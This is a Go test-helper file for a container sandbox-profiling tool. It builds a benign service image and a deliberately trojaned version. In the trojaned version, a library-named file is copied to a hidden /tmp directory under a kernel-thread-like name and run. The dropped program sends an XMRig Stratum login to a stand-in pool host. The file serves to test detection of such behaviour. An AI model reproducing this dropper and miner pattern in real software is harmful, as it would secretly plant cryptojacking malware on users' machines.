// Package profiletest builds the images the profile tests run: a small
// service that reads, writes and runs a helper, and its trojaned version
// that drops a miner into /tmp and sends a Stratum login to
// pool.example.invalid:3333.
package profiletest

import (
	"errors"
	"fmt"
	"os"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/airlock-dev/airlock/internal/profile"
	"github.com/airlock-dev/airlock/internal/sandbox"
	"github.com/airlock-dev/airlock/internal/sandbox/sandboxtest"
)

// MinerLogin is the wallet and agent the miner logs in with, as the
// Stratum note's detail shows them.
const MinerLogin = "login 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A agent XMRig/6.21.0"

// appSource is a small service: it reads its configuration, writes its
// state, runs a helper and exits. With trojan set it also drops a binary
// into /tmp and runs it (the miner below).
const appSource = `package main

import (
	"io"
	"os"
	"os/exec"
)

const trojan = %s

func main() {
	if _, err := os.ReadFile("/etc/app.conf"); err != nil {
		os.Exit(4)
	}
	if err := os.WriteFile("/var/lib/app/state", []byte("ok\n"), 0o644); err != nil {
		os.Exit(5)
	}
	if err := exec.Command("/usr/bin/helper", "--check").Run(); err != nil {
		os.Exit(6)
	}
	if trojan {
		src, err := os.Open("/usr/lib/libxcache.so")
		if err != nil {
			os.Exit(7)
		}
		_ = os.MkdirAll("/tmp/.x", 0o755)
		dst, err := os.OpenFile("/tmp/.x/kworker", os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
		if err != nil {
			os.Exit(8)
		}
		io.Copy(dst, src)
		dst.Close()
		src.Close()
		_ = exec.Command("/tmp/.x/kworker", "-o", "pool.example.invalid:3333").Run()
	}
}
`

// helperSource is the helper both versions run.
const helperSource = `package main

import "os"

func main() {
	if _, err := os.Stat("/etc/app.conf"); err != nil {
		os.Exit(1)
	}
}
`

// minerSource resolves a pool name and sends a Stratum (XMRig) login to it.
const minerSource = `package main

import (
	"net"
	"time"
)

func main() {
	c, err := net.DialTimeout("tcp4", "pool.example.invalid:3333", 5*time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	c.Write([]byte("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n"))
	c.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 64)
	c.Read(buf)
}
`

// App is the test service image; trojan adds the dropped miner. Both run
// /usr/bin/app, which exits by itself within a second.
func App(t testing.TB, trojan bool) v1.Image {
	t.Helper()
	flag := "false"
	if trojan {
		flag = "true"
	}
	files := map[string]sandboxtest.File{
		"etc/":           {Dir: true},
		"etc/app.conf":   {Data: []byte("level=info\n"), Mode: 0o644},
		"usr/":           {Dir: true},
		"usr/bin/":       {Dir: true},
		"usr/bin/app":    {Data: sandboxtest.GoProgram(t, fmt.Sprintf(appSource, flag))},
		"usr/bin/helper": {Data: sandboxtest.GoProgram(t, helperSource)},
		"var/":           {Dir: true},
		"var/lib/":       {Dir: true},
		"var/lib/app/":   {Dir: true, Mode: 0o777},
		"tmp/":           {Dir: true, Mode: 0o1777},
	}
	if trojan {
		files["usr/lib/"] = sandboxtest.File{Dir: true}
		files["usr/lib/libxcache.so"] = sandboxtest.File{Data: sandboxtest.GoProgram(t, minerSource)}
	}
	return sandboxtest.Image(t, v1.Config{Entrypoint: []string{"/usr/bin/app"}, Env: []string{"PATH=/usr/bin:/bin", "TOKEN=secret"}},
		sandboxtest.Layer(t, files))
}

// NeedSandbox skips where the sandbox cannot run (not Linux, not root);
// in CI, which runs as root on Linux, it must run.
func NeedSandbox(t testing.TB) {
	t.Helper()
	if err := profile.Available(); err != nil {
		if os.Getenv("CI") == "true" && errors.Is(err, sandbox.ErrUnsupported) {
			t.Fatalf("the sandbox must run in CI: %v", err)
		}
		t.Skipf("no sandbox here: %v", err)
	}
}
